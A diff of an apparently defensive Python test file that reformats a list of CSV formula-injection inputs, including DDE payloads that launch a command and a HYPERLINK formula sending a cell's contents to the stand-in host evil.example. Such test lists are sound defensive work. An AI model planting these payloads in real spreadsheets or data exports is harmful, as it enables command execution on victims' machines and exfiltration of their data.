@@ -91,10 +91,30 @@ def csv_rows(path: Path) -> list[dict[str, str]]:
 
 
 FORMULAS = [
-    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-1+1",
-    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1", "\tx", "\rx", "\nx", " =1+1", "\u00a0=1", "\uff1d1+1", "\uff0b1",
-    "\uff0d1+1", "\uff20SUM(1)", "- The parcel is late", "-", "+49 151 1234", "-2+3*cmd", "'=1+1", "''-1+1", "-5%",
-]  # fmt: skip
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1)',
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1",
+    "\tx",
+    "\rx",
+    "\nx",
+    " =1+1",
+    "\u00a0=1",
+    "\uff1d1+1",
+    "\uff0b1",
+    "\uff0d1+1",
+    "\uff20SUM(1)",
+    "- The parcel is late",
+    "-",
+    "+49 151 1234",
+    "-2+3*cmd",
+    "'=1+1",
+    "''-1+1",
+    "-5%",
+]
 NO_FORMULAS = [
     "-5",
     "+4915112345678",
